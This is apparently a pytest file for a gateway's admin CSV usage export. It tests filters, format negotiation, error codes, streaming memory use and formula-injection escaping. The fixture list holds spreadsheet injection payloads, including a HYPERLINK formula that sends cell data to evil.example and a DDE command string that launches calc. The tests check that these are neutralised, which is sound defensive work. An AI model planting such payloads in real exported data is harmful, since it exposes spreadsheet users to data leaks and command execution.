"""``GET /admin/usage`` as CSV (``format=csv`` or ``Accept: text/csv``): the raw usage rows,
streamed, formula-safe, with bounded memory; on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, datetime, timedelta

import psycopg
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import event, insert, text

from gateway.store.tables import usage
from gateway.store.usage_export import COLUMNS, cell
from gateway.usage import UsageRecord
from tests.conftest import KEY_HEADERS

T0 = datetime(2026, 11, 3, 8, 0, tzinfo=UTC)
HOSTILE_MODELS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


@pytest.fixture
def csv_app(database_url: str, make_app) -> Flask:
    return make_app(database_url=database_url)


def _record(ts: datetime, key_id: str, model: str | None, **extra) -> UsageRecord:
    fields = {"operation": "chat", "status": 200, "duration_ms": 12.5, "upstream_ms": 10.25, "request_id": None, **extra}
    return UsageRecord(ts=ts, key_id=key_id, model=model, **fields)


def _write(app: Flask, *records: UsageRecord) -> None:
    writer = app.extensions["gateway.usage"]
    for record in records:
        assert writer.record(record)
    assert writer.flush(timeout=5)


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    body = response.get_data(as_text=True)
    assert body.endswith("\r\n")
    return list(csv.reader(io.StringIO(body, newline="")))


def _get(client: FlaskClient, headers: dict | None = None, **params):
    return client.get("/admin/usage", query_string=params, headers={**KEY_HEADERS, **(headers or {})})


def test_the_csv_is_every_matching_row_with_a_header_line(csv_app: Flask) -> None:
    _write(
        csv_app,
        _record(T0 + timedelta(minutes=2), "key_b", "gpt-4o", prompt_tokens=3, completion_tokens=4, total_tokens=7),
        _record(T0, "key_a", "gpt-4o", status=502, tokens_estimated=True, request_id="req-1", backend="azure", attempts=2),
        _record(T0 + timedelta(minutes=1), "key_a", None, operation="embeddings"),
        _record(T0 - timedelta(days=30), "key_a", "old"),
    )
    client = csv_app.test_client()
    response = _get(client, format="csv", **{"from": "2026-11-01"})
    assert response.headers["Content-Disposition"] == 'attachment; filename="usage.csv"'
    assert response.headers["Cache-Control"] == "no-store" and "Accept" in response.headers["Vary"]
    rows = _csv(response)
    assert rows[0] == list(COLUMNS)
    shown = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [(r["key_id"], r["model"], r["operation"]) for r in shown] == [
        ("key_a", "gpt-4o", "chat"),
        ("key_a", "", "embeddings"),
        ("key_b", "gpt-4o", "chat"),
    ]  # by time; the row from October is outside `from`
    first = shown[0]
    assert first["ts"] == "2026-11-03T08:00:00+00:00" and first["status"] == "502"
    assert (first["tokens_estimated"], first["request_id"], first["backend"], first["attempts"]) == ("true", "req-1", "azure", "2")
    assert (first["prompt_tokens"], first["duration_ms"], first["upstream_ms"]) == ("", "12.5", "10.25")
    assert (shown[2]["prompt_tokens"], shown[2]["total_tokens"], shown[2]["tokens_estimated"]) == ("3", "7", "false")
    assert int(shown[0]["id"]) > 0

    # The JSON report's filters apply; Accept: text/csv is the same as format=csv.
    assert [r[COLUMNS.index("key_id")] for r in _csv(_get(client, key="key_b", format="csv"))[1:]] == ["key_b"]
    by_accept = _csv(_get(client, {"Accept": "text/csv"}, operation="embeddings"))
    assert [r[COLUMNS.index("operation")] for r in by_accept[1:]] == ["embeddings"]
    window = {"from": "2026-11-03T08:00:30Z", "to": "2026-11-03T08:01:30Z", "format": "csv"}
    assert len(_csv(_get(client, **window))) == 2
    assert _csv(_get(client, model="nothing-like-this", format="csv")) == [list(COLUMNS)]


@pytest.mark.parametrize(
    ("accept", "params", "csv_expected"),
    [
        (None, {}, False),
        ("*/*", {}, False),
        ("application/json", {}, False),
        ("text/csv", {}, True),
        ("text/csv;q=0.5, application/json", {}, False),
        ("text/csv, application/json;q=0.5", {}, True),
        ("text/csv", {"format": "json"}, False),
        ("application/json", {"format": "csv"}, True),
    ],
)
def test_the_format_follows_format_then_accept(client: FlaskClient, accept: str | None, params: dict, csv_expected: bool) -> None:
    response = _get(client, {"Accept": accept} if accept else {}, **params)
    assert response.status_code == 200
    assert response.mimetype == ("text/csv" if csv_expected else "application/json")


@pytest.mark.parametrize(("params", "param"), [({"format": "xml"}, "format"), ({"format": "csv", "group_by": "day"}, "group_by")])
def test_bad_csv_requests_are_400(client: FlaskClient, params: dict, param: str) -> None:
    response = _get(client, **params)
    assert response.status_code == 400 and response.get_json()["error"]["param"] == param


def test_cells_that_a_spreadsheet_would_run_are_text(csv_app: Flask) -> None:
    _write(csv_app, *(_record(T0 + timedelta(seconds=n), "key_a", model) for n, model in enumerate(HOSTILE_MODELS)))
    _write(csv_app, _record(T0 + timedelta(minutes=5), "=cmd|' /C calc'!A0", 'plain, with "quotes"', request_id="-req"))
    rows = _csv(_get(csv_app.test_client(), format="csv"))[1:]
    models = [row[COLUMNS.index("model")] for row in rows]
    assert models == ["'" + model for model in HOSTILE_MODELS] + ['plain, with "quotes"']
    assert rows[-1][COLUMNS.index("key_id")] == "'=cmd|' /C calc'!A0"
    assert rows[-1][COLUMNS.index("request_id")] == "'-req"
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row  # negative numbers cannot occur


def test_numbers_are_written_as_they_are() -> None:
    assert [cell(-3), cell(-0.5), cell(0), cell(None), cell(True), cell("-3")] == ["-3", "-0.5", "0", "", "true", "'-3"]


def test_a_database_that_does_not_answer_is_503_before_any_byte(csv_app: Flask) -> None:
    engine = csv_app.extensions["gateway.store"].engine
    with engine.begin() as connection:
        connection.execute(text("ALTER TABLE usage RENAME TO usage_away"))
    try:
        response = _get(csv_app.test_client(), format="csv")
        assert response.status_code == 503 and response.get_json()["error"]["code"] == "store_unavailable"
    finally:
        with engine.begin() as connection:
            connection.execute(text("ALTER TABLE usage_away RENAME TO usage"))


ROWS = 50_000


def test_a_large_export_streams_in_bounded_memory(csv_app: Flask) -> None:
    engine = csv_app.extensions["gateway.store"].engine
    model = "a-model-name-long-enough-to-make-the-rows-weigh-something-" * 2
    with engine.begin() as connection:
        connection.execute(
            insert(usage),
            [
                {
                    "ts": T0 + timedelta(seconds=n),
                    "key_id": f"key_{n % 97:016x}",
                    "operation": "chat",
                    "model": model,
                    "status": 200,
                    "prompt_tokens": n,
                    "completion_tokens": n,
                    "total_tokens": 2 * n,
                    "tokens_estimated": False,
                    "duration_ms": 1.5,
                    "request_id": f"{n:032x}",
                }
                for n in range(ROWS)
            ],
        )
    client = csv_app.test_client()
    _get(client, format="csv", key="key_none").close()  # first use: imports, compiled queries, the pool
    server_side: list[bool] = []

    @event.listens_for(engine, "before_cursor_execute")
    def _cursor_kind(connection, cursor, statement, parameters, context, executemany) -> None:
        if "FROM usage" in statement:
            server_side.append(isinstance(cursor, psycopg.ServerCursor))

    tracemalloc.start()
    try:
        response = _get(client, format="csv")
        assert response.status_code == 200 and response.is_streamed
        size = lines = chunks = 0
        for chunk in response.response:  # the body as the server would send it, never held whole
            size += len(chunk)
            lines += chunk.count(b"\r\n")
            chunks += 1
        response.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        event.remove(engine, "before_cursor_execute", _cursor_kind)
    assert lines == ROWS + 1 and chunks > 10
    # One chunk at a time: the file (or every row) at once would take more than `size`.
    assert peak < size / 5, (peak, size)
    assert server_side == [engine.dialect.name == "postgresql"]  # PostgreSQL: a server-side cursor
